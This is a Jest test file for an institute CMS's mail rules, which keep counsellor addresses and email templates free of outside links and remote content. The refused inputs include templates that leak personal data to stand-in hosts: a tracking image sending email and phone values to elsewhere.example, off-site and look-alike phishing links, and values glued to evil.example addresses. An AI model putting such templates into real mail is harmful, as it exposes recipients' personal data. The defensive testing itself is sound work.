/** @jest-environment node */
// What a counsellor address and an email template may hold, the rules by themselves: an insider
// who may edit them can neither route leads to an outside address nor make a mail hand a person's
// data to another site (the journey with a real CMS: tests/e2e/admin/cms-insiders.spec.ts).
import seedTemplates from '../../../cms/seed/email-template.json';
/* eslint-disable @typescript-eslint/no-require-imports */
const { mailRules, counsellorAddressProblem, templateProblem } = require('../../../cms/src/mail-rules');
/* eslint-enable @typescript-eslint/no-require-imports */

const rules = mailRules({ COUNSELLOR_MAIL_DOMAINS: 'maven-silicon.com, Maven.example', SITE_URL: 'https://www.maven-silicon.com/some/page' });

describe('mailRules: the settings', () => {
  it('names the domains and the site origin; unset, the seed domain and no link at all', () => {
    expect(rules).toEqual({ counsellorDomains: ['maven-silicon.com', 'maven.example'], linkOrigins: ['https://www.maven-silicon.com'] });
    expect(mailRules({})).toEqual({ counsellorDomains: ['example.com'], linkOrigins: [] });
    expect(mailRules({ MAIL_LINK_ORIGINS: 'https://a.example/x,https://b.example', SITE_URL: 'https://c.example' }).linkOrigins).toEqual(['https://a.example', 'https://b.example']);
  });
});

describe("counsellorAddressProblem: only the institute's own mail domains", () => {
  it.each(['admissions@maven-silicon.com', 'Sales@MAVEN.example'])('%s is allowed', (email) => {
    expect(counsellorAddressProblem(email, rules)).toBeNull();
  });
  it.each(['me@gmail.com', 'me@maven-silicon.com.evil.example', 'me@evil-maven-silicon.com', 'a@maven-silicon.com@evil.example', ''])('%s is refused, naming the domains', (email) => {
    expect(counsellorAddressProblem(email, rules)).toBe(`A counsellor's address must be at the institute's own mail domain (@maven-silicon.com, @maven.example): ${email} is not. An administrator names the domains in COUNSELLOR_MAIL_DOMAINS.`);
  });
});

describe('templateProblem: no remote content, no link elsewhere, no value inside an address', () => {
  it("passes every seeded template (the seed's links are the site's own values)", () => {
    for (const t of seedTemplates.entries) expect([t.key, templateProblem(t, rules)]).toEqual([t.key, null]);
  });

  it.each([
    ['the tracking image of the issue', { html: '<p>Hi</p><img src="https://elsewhere.example/?{{email}}|{{mobileNumber}}|{{confirmUrl}}">' }, /^The HTML may not carry images or embedded content \(<img>\)/],
    ['an image of the site itself', { html: '<IMG SRC="https://www.maven-silicon.com/logo.png">' }, /\(<img>\)/],
    ['a style sheet', { html: '<style>p{background:red}</style>' }, /\(<style>\)/],
    ['a frame', { html: '<iframe src="https://www.maven-silicon.com/"></iframe>' }, /\(<iframe>\)/],
    ['a background image in a style', { html: '<p style="background:url(https://elsewhere.example/{{email}})">x</p>' }, /^A style may not load anything/],
    ['a CSS escape in a style', { html: '<p style="background:\\75rl(x)">x</p>' }, /^A style may not load anything/],
    ['a link elsewhere', { html: '<a href="https://evil.example/login">Verify</a>' }, "A link may point only to the site's own address (https://www.maven-silicon.com): https://evil.example/login"],
    ['a link to a look-alike host', { html: "<a href='https://www.maven-silicon.com.evil.example/'>x</a>" }, /^A link may point only to the site's own address/],
    ['a protocol-relative link', { html: '<a href=//evil.example/x>x</a>' }, /^A link may point only/],
    ['a value inside a link to the site', { html: '<a href="https://www.maven-silicon.com/?e={{email}}">x</a>' }, /^A link's address may not contain a value such as \{\{email\}\}/],
    ["a visitor's value as a whole link", { html: '<a href="{{message}}">x</a>' }, /^A link's address may not contain a value/],
    ['a value before the site link', { html: '<a href="{{name}}{{siteUrl}}">x</a>' }, /^A link's address may not contain a value/],
    ['a mailto elsewhere', { html: '<a href="mailto:me@gmail.com">write</a>' }, /^A mailto link may name only an address at the institute's own mail domain/],
    ['an unescaped value', { html: '<p>{{{name}}}</p>' }, 'The html may not use {{{…}}}, {{&…}} or {{=…=}}: every value is inserted escaped.'],
    ['an unescaped value, the other way', { text: 'Hello {{& name}}' }, /^The text may not use/],
    ['new delimiters that would hide a value', { html: '{{=<% %>=}}<a href="https://evil.example/?<%email%>">x</a>' }, /^The html may not use/],
    ['an address elsewhere in the plain text', { text: 'Confirm at https://evil.example/confirm' }, "The text may name only the site's own address (https://www.maven-silicon.com): https://evil.example/confirm"],
    ['a www address in the subject', { subject: 'Verify at www.evil.example now' }, /^The subject may name only the site's own address/],
    ['an address in the HTML text', { html: '<p>Go to https://evil.example</p>' }, /^The html may name only/],
    ['a value glued to a bare host in the text', { text: 'Your file: evil.example/{{email}}' }, /^The text: A value such as \{\{email\}\} may not be part of an address/],
    ['a value glued to the site in the text', { text: 'https://www.maven-silicon.com/?x={{mobileNumber}}' }, /^The text: A value such as \{\{mobileNumber\}\}/],
    ['a value as a subdomain', { text: 'See {{email}}.evil.example' }, /^The text: A value such as \{\{email\}\}/],
    ['a value glued through an empty section', { text: 'evil.example/{{#page}}{{/page}}{{email}}' }, /^The text: A value such as \{\{email\}\}/],
  ])('refuses %s', (_what, template, message) => {
    expect(templateProblem(template, rules)).toEqual(typeof message === 'string' ? message : expect.stringMatching(message));
  });

  it.each([
    ['a link to the site', { html: '<a href="https://www.maven-silicon.com/courses">Courses</a>' }],
    ['a path of the site after its value', { html: '<a href="{{siteUrl}}/courses">Courses</a>', text: 'Courses: {{siteUrl}}/courses' }],
    ['a mailto at the institute', { html: '<a href="mailto:admissions@maven-silicon.com">write</a>' }],
    ['values in running text', { subject: 'Thank you, {{name}}: welcome', text: 'Phone: {{mobileNumber}}. Page ({{page}})' }],
  ])('keeps %s', (_what, template) => {
    expect(templateProblem(template, rules)).toBeNull();
  });
});
